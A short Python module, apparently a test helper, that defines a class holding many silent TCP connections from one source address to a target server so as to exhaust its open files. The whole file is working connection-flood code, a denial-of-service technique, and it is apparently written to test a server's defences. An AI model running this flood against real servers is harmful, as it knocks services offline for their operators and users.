"""An attacker's many connections that never say a word (a TLS handshake never begun), kept
open from one address: what it takes to use up a server's open files.
"""

from __future__ import annotations

import contextlib
import socket
import threading

CONNECT_TIMEOUT = 0.5  # seconds: a server that drops our SYNs makes connects hang


class HalfOpenFlood:
    """Holds up to `count` silent connections from `source` to `target`, opening new ones as
    the server closes them, until stop(). `opened` counts every connection made.
    """

    def __init__(self, target: tuple[str, int], source: str, count: int) -> None:
        self.target = target
        self.source = source
        self.count = count
        self.opened = 0
        self.held: list[socket.socket] = []
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=self._run, daemon=True) for _ in range(4)]
        self._threads.append(threading.Thread(target=self._reap, daemon=True))
        self._lock = threading.Lock()

    def __enter__(self) -> HalfOpenFlood:
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_exc: object) -> None:
        self.stop()

    def stop(self) -> None:
        self._stop.set()
        for thread in self._threads:
            thread.join()
        with self._lock:
            for sock in self.held:
                sock.close()
            self.held.clear()

    def _reap(self) -> None:
        while not self._stop.wait(0.2):
            self._drop_closed()

    def _run(self) -> None:
        while not self._stop.is_set():
            with self._lock:
                full = len(self.held) >= self.count
            if full:
                self._stop.wait(0.05)
                continue
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.settimeout(CONNECT_TIMEOUT)
            try:
                sock.bind((self.source, 0))
                sock.connect(self.target)
            except OSError:
                sock.close()
                continue
            sock.setblocking(False)
            with self._lock:
                self.held.append(sock)
                self.opened += 1

    def _drop_closed(self) -> None:
        with self._lock:
            kept = []
            for sock in self.held:
                try:
                    closed = sock.recv(1, socket.MSG_PEEK) == b""
                except BlockingIOError:
                    closed = False
                except OSError:
                    closed = True
                if closed:
                    with contextlib.suppress(OSError):
                        sock.close()
                else:
                    kept.append(sock)
            self.held = kept
